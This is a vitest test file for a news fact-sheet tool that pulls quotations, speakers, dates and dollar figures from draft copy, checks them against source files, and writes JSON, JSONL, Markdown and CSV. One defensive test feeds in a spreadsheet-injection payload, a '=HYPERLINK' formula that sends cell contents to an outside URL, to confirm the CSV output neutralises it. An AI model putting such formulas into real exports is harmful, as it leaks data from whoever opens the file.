import { describe, expect, it } from 'vitest'
import { folderWith } from './desk.ts'

const copy =
  'GULLHAVEN — “We are going to keep the harbor open,” Mayor Tobias Lindqvist said on Friday, March 28, 2014.\n\nHe paid **$4.5 million** for it.\n'
const source = 'GULLHAVEN (CP) — “We are going to keep the whole harbor open,” Mayor Tobias Lindqvist said.\n'

const folder = () => folderWith({ 'a.md': `---\ndate: 2014-03-29\n---\n\n${copy}`, 'sources/cp.txt': source })

describe('standards-desk facts', () => {
  it('gives one object a draft, whose spans can be sliced from the draft', async () => {
    const desk = folder()
    const { output, code } = await desk.desk(['facts', '--format', 'json'])
    const { version, files } = JSON.parse(output)
    const [sheet] = files
    expect({ version, code, count: files.length }).toEqual({ version: 1, code: 0, count: 1 })
    expect(Object.keys(sheet)).toEqual([
      'path',
      'published',
      'quotations',
      'people',
      'times',
      'figures',
      'passages',
      'accusations',
      'claims',
      'statements',
    ])
    expect(sheet).toMatchObject({ path: 'a.md', published: '2014-03-29' })
    const text = desk.text('a.md')
    for (const { start, end, text: words } of [...sheet.quotations, ...sheet.times, ...sheet.figures])
      expect(text.slice(start, end)).toBe(words)
    const [quotation] = sheet.quotations
    expect(quotation).toMatchObject({
      text: '“We are going to keep the harbor open,”',
      kind: 'full',
      speaker: { name: 'Tobias Lindqvist' },
      verb: 'said',
      verification: { status: 'altered', source: 'sources/cp.txt' },
    })
    expect(text.slice(quotation.speaker.start, quotation.speaker.end)).toMatch(/Tobias Lindqvist$/)
    expect(source.slice(quotation.verification.start, quotation.verification.end)).toContain(
      'keep the whole harbor',
    )
    expect(sheet.times).toContainEqual(expect.objectContaining({ value: '2014-03-28', grain: 'day' }))
    expect(sheet.figures).toContainEqual(expect.objectContaining({ value: 4_500_000, unit: 'USD' }))
    expect(sheet.people).toContainEqual(expect.objectContaining({ name: 'Tobias Lindqvist', role: 'Mayor' }))
  })

  it('says `unchecked`, with nothing beside it, where there are no sources', async () => {
    const [sheet] = JSON.parse(
      (await folderWith({ 'a.txt': copy }).desk(['facts', '--format', 'json'])).output,
    ).files
    expect(sheet.quotations[0].verification).toEqual({
      status: 'unchecked',
      source: null,
      start: null,
      end: null,
    })
    expect(sheet).toMatchObject({ published: null, passages: [] })
  })

  it('writes one such object a line as jsonl', async () => {
    const desk = folder()
    desk.write('b.md', 'It rained.')
    const lines = (await desk.desk(['facts', '--format', 'jsonl'])).output.trimEnd().split('\n')
    expect(lines.map(line => JSON.parse(line).path)).toEqual(['a.md', 'b.md'])
  })

  it('writes nothing that a spreadsheet would run', async () => {
    const desk = folderWith({
      '=cmd.txt':
        '=HYPERLINK("https://example.org/?leak="&A1,"Read") said Ann Lund, 40.\n\n-5% and +3% are up.\n',
    })
    const { output } = await desk.desk(['facts', '--format', 'csv'])
    expect(output).toContain("'=cmd.txt,")
    for (const row of output.trim().split('\r\n').slice(1))
      for (const cell of row.match(/"(?:[^"]|"")*"|[^,]+/g) ?? [])
        expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@-]/)
  })

  it('writes a list to tick off, and a table for a spreadsheet', async () => {
    const desk = folder()
    const md = (await desk.desk(['facts', '--format', 'md'])).output
    expect(md).toContain(
      '- [ ] “We are going to keep the harbor open,” — Tobias Lindqvist (line 5): altered — `sources/cp.txt:1`',
    )
    const rows = (await desk.desk(['facts', '--format', 'csv'])).output.split('\r\n')
    expect(rows[0]).toBe('path,line,column,what,text,who,value,status,source,source line')
    expect(rows[1]).toBe(
      'a.md,5,13,full quotation,"“We are going to keep the harbor open,”",Tobias Lindqvist,,altered,sources/cp.txt,1',
    )
    expect(rows.at(-1)).toBe('')
    expect(rows).toContain('a.md,5,59,person,Tobias Lindqvist,Tobias Lindqvist,Mayor,found,sources/cp.txt,1')
    const pretty = (await desk.desk(['facts'])).output
    expect(pretty).toMatch(/5:13 “We are going .* — Tobias Lindqvist; altered sources\/cp\.txt:1:19/)
  })
})
